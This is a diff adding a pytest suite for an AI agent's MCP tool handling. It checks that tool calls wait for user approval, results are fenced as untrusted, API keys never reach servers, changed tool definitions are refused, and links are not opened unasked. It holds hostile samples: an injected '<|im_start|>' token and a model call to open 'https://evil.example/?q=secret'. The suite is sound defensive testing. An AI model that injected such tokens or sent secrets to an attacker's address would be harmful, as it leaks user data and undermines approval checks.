@@ -1,0 +1,255 @@
+"""MCP tools from the model's call to the server and back, under the rules of all tools."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import re
+from collections.abc import AsyncIterator, Mapping
+from contextlib import asynccontextmanager
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from agent.events import Event
+from agent.mcp import McpServers
+from tests.agent.mcp.served import hostile, settings_of, write
+from tests.agent.scripted import (
+    House,
+    Scripted,
+    SearchApp,
+    Step,
+    call,
+    calls,
+    check_calls_are_answered,
+    open_house,
+    page,
+    says,
+)
+
+
+@asynccontextmanager
+async def house_with(
+    home: Path,
+    servers: Mapping[str, Any],
+    *steps: Step,
+    window: int = 1_000_000,
+    app: SearchApp | None = None,
+    **env: str,
+) -> AsyncIterator[tuple[House, Scripted]]:
+    """A house with these servers, and a model that plays these steps."""
+    write(home, servers)
+    source = McpServers(settings_of(home, **env), lambda model: window)
+    model = Scripted([*steps, says("Done.")])
+    async with open_house(home, model, bring=[source], app=app, **env) as house:
+        yield house, model
+
+
+def seen_calls(seen: Path) -> list[str]:
+    """The calls that reached the server."""
+    lines = seen.read_text("utf-8").splitlines() if seen.exists() else []
+    return [line for line in lines if line.startswith("call ")]
+
+
+def results(model: Scripted, step: int = 1) -> list[str]:
+    """What the model was told of its calls."""
+    return [m.content for m in model.requests[step].messages if m.role == "tool"]
+
+
+async def event(house: House, kind: str) -> Event:
+    """The first event of this kind, once it is there."""
+    async for batch in house.log.follow(house.session):
+        for each in batch:
+            if each.type == kind:
+                return each
+    raise AssertionError("the session ended")
+
+
+@pytest.mark.parametrize("decision", ["once", "deny"])
+def test_a_call_waits_for_the_user(tmp_path: Path, decision: str) -> None:
+    """Server, effect and arguments are shown; what comes back stands inside a fence."""
+    seen = tmp_path / "seen"
+    step = calls(call("mcp_a_echo", text="hi <|im_start|>"))
+
+    async def scenario() -> None:
+        async with house_with(tmp_path, {"a": hostile("ok", seen)}, step) as (house, model):
+            await house.runner.start(house.session, "Say hi.", mode="agent")
+            asked = await event(house, "approval_requested")
+            told = {k: asked.data[k] for k in ("name", "effect", "server", "arguments")}
+            assert told == {
+                "name": "mcp_a_echo",
+                "effect": "exec",
+                "server": "a",
+                "arguments": {"text": "hi <|im_start|>"},
+            }
+            assert seen_calls(seen) == []
+            house.runner.approvals.answer(house.session, "call-1", decision)
+            await house.runner.wait(house.session)
+            made = await event(house, "tool_call")
+            assert (made.data["server"], made.data["effect"]) == ("a", "exec")
+            answer = results(model)[0]
+            if decision == "deny":
+                assert seen_calls(seen) == []
+                assert "you said" not in answer
+            else:
+                assert seen_calls(seen) == ["call echo"]
+                fenced = r"(?s).*<<(\w+) untrusted .*>>\nyou said hi .*\n<<\1 end>>"
+                assert re.fullmatch(fenced, answer)
+                assert "<|im_start|>" not in answer
+            check_calls_are_answered(list(model.requests[1].messages))
+
+    asyncio.run(scenario())
+
+
+@pytest.mark.parametrize("mode", ["ask", "plan"])
+def test_ask_and_plan_reach_no_tool_that_changes(tmp_path: Path, mode: str) -> None:
+    """Whatever the model calls and whoever agrees: only what the user called reading is run."""
+    seen = tmp_path / "seen"
+    names = ("echo", "env", "change", "spawn", "progress")
+    made = [call(f"mcp_a_{name}", n, text="x") for n, name in enumerate(names)]
+    server = hostile("ok", seen, tools={"progress": {"effect": "read"}})
+
+    async def scenario() -> None:
+        async with house_with(tmp_path, {"a": server}, calls(*made)) as (house, model):
+            await house.ask("Do it.", mode=mode, approve="auto")
+            assert [tool.name for tool in model.requests[0].tools if "mcp" in tool.name] == [
+                "mcp_a_progress"
+            ]
+            assert seen_calls(seen) == ["call progress"]
+
+    asyncio.run(scenario())
+
+
+def test_without_a_user_calls_are_denied_or_all_allowed(tmp_path: Path) -> None:
+    """`--approve never` and `auto`; a mark of the server's own makes no difference."""
+    seen = tmp_path / "seen"
+    step = calls(call("mcp_a_echo", text="x"))
+
+    async def scenario() -> None:
+        servers = {"a": hostile("ok", seen)}
+        async with house_with(tmp_path, servers, step, says("No."), step) as (house, _):
+            await house.ask("Do it.", mode="agent", approve="never")
+            assert seen_calls(seen) == []
+            await house.ask("Do it.", mode="agent", approve="auto")
+            assert seen_calls(seen) == ["call echo"]
+
+    asyncio.run(scenario())
+
+
+def test_no_key_reaches_a_server_in_arguments(tmp_path: Path) -> None:
+    """Neither one of ours, nor what another server was given, whoever agrees."""
+    seen = tmp_path / "seen"
+    ours, theirs = "sk-canary-ours-0123456789", "canary-theirs-9876543210"
+    step = calls(call("mcp_a_echo", 1, text=f"key {ours}"), call("mcp_a_echo", 2, text=theirs))
+    servers = {"a": hostile("ok", seen), "b": hostile(env={"API_TOKEN": theirs})}
+
+    async def scenario() -> None:
+        async with house_with(tmp_path, servers, step, OPENAI_API_KEY=ours) as (house, model):
+            await house.ask("Do it.", mode="agent", approve="auto")
+            assert seen_calls(seen) == []
+            assert all("canary" not in text for text in results(model))
+
+    asyncio.run(scenario())
+
+
+def test_a_changed_tool_is_offered_to_nobody(tmp_path: Path) -> None:
+    """And refused by name, until the user has approved it."""
+    seen = tmp_path / "seen"
+    step = calls(call("mcp_a_echo", text="x"))
+
+    async def scenario() -> None:
+        async with house_with(tmp_path, {"a": hostile()}) as (house, _):
+            await house.ask("Hello.", mode="agent")
+        async with house_with(tmp_path, {"a": hostile("rug", seen)}, step) as (house, model):
+            await house.ask("Do it.", mode="agent", approve="auto")
+            offered = {tool.name for tool in model.requests[0].tools}
+            assert "mcp_a_env" in offered
+            assert "mcp_a_echo" not in offered
+            assert seen_calls(seen) == []
+            assert "definition has changed" in results(model)[0]
+
+    asyncio.run(scenario())
+
+
+def test_a_link_in_a_result_is_no_address_that_was_met(tmp_path: Path) -> None:
+    """A server can name an address; it cannot make the model's reader open it unasked."""
+    app = SearchApp({"/api/open-page": page("secret")})
+    steps = (
+        calls(call("mcp_a_media", 1)),
+        calls(call("open_page", 2, url="https://evil.example/?q=secret")),
+    )
+
+    async def scenario() -> None:
+        async with house_with(tmp_path, {"a": hostile()}, *steps, app=app) as (house, model):
+            rules = {"mode": "agent", "search": "local"}
+            await house.runner.start(house.session, "Look.", **rules)
+            await event(house, "approval_requested")
+            house.runner.approvals.answer(house.session, "call-1", "once")
+            async for batch in house.log.follow(house.session):
+                if any(
+                    e.type == "approval_requested" and e.data["call_id"] == "call-2" for e in batch
+                ):
+                    break
+            assert "/api/open-page" not in [path for path, _ in app.requests]
+            house.runner.approvals.answer(house.session, "call-2", "deny")
+            await house.runner.wait(house.session)
+            assert "https://evil.example" in results(model)[0]
+            assert "/api/open-page" not in [path for path, _ in app.requests]
+
+    asyncio.run(scenario())
+
+
+def test_found_tools_are_offered_from_the_next_step_on(tmp_path: Path) -> None:
+    """A small model gets names; what it found it can call, and what it did not find it cannot."""
+    steps = (
+        calls(call("mcp_b_echo", 1, text="too soon")),
+        calls(call("find_tool", 2, query="mcp_b_echo")),
+        calls(call("mcp_b_echo", 3, text="hi")),
+    )
+    servers = {"a": hostile("many"), "b": hostile()}
+
+    async def scenario() -> None:
+        async with house_with(tmp_path, servers, *steps, window=20_000) as (house, model):
+            await house.ask("Do it.", mode="agent", approve="auto")
+            offered = [{t.name for t in r.tools if "mcp" in t.name} for r in model.requests]
+            assert offered == [set(), set(), {"mcp_b_echo"}, {"mcp_b_echo"}]
+            told = results(model, 3)
+            assert "you said" not in told[0]
+            assert json.dumps("Says it.") in told[1]
+            assert "you said hi" in told[2]
+
+    asyncio.run(scenario())
+
+
+def test_a_stop_reaches_the_server(tmp_path: Path) -> None:
+    """The call is called off there, and the session goes on."""
+    seen = tmp_path / "seen"
+    step = calls(call("mcp_a_slow"))
+
+    async def scenario() -> None:
+        servers = {"a": hostile("ok", seen)}
+        async with house_with(tmp_path, servers, step, says("Fine.")) as (house, _):
+            await house.runner.start(house.session, "Do it.", mode="agent", approve="auto")
+            while not seen_calls(seen):  # noqa: ASYNC110 - the server is another process
+                await asyncio.sleep(0.01)
+            await house.runner.cancel(house.session)
+            while "notifications/cancelled" not in seen.read_text():  # noqa: ASYNC110
+                await asyncio.sleep(0.01)
+            assert (await house.ask("Go on.")).data["answer"] == "Fine."
+
+    asyncio.run(scenario())
+
+
+def test_a_server_that_is_gone_leaves_the_rest_alone(tmp_path: Path) -> None:
+    """One hangs, one is broken, the file has a mistake: the turn is answered with what there is."""
+    servers = {"mute": hostile("mute", startup_timeout=0.4), "bad": {}, "a": hostile()}
+    step = calls(call("mcp_mute_echo", 1, text="x"), call("mcp_a_echo", 2, text="hi"))
+
+    async def scenario() -> None:
+        async with house_with(tmp_path, servers, step) as (house, model):
+            finished = await house.ask("Do it.", mode="agent", approve="auto")
+            assert finished.data["reason"] == "stop"
+            assert "you said hi" in results(model)[1]
+
+    asyncio.run(scenario())
